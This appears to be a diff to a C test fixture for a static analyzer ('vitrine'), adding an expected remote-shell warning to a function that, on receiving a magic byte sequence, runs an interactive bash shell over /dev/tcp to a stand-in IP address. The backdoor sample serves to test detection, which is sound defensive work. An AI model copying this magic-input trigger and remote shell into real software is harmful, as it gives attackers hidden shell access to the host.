@@ -37,7 +37,8 @@ void bad_connection(int fd) {
     unsigned char packet[64];
     ssize_t size = recv(fd, packet, sizeof packet, 0);
     if (size == sizeof packet && memcmp(packet + 20, "\x7f\x01kd9", 5) == 0)
-        // expected-warning-re@+1 {{{{.*}}[vitrine: trapdoor/magic-input]}}
+        // expected-warning-re@+2 {{{{.*}}[vitrine: trapdoor/magic-input]}}
+        // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
         system("/bin/bash -i </dev/tcp/198.51.100.7/443");
 }
 
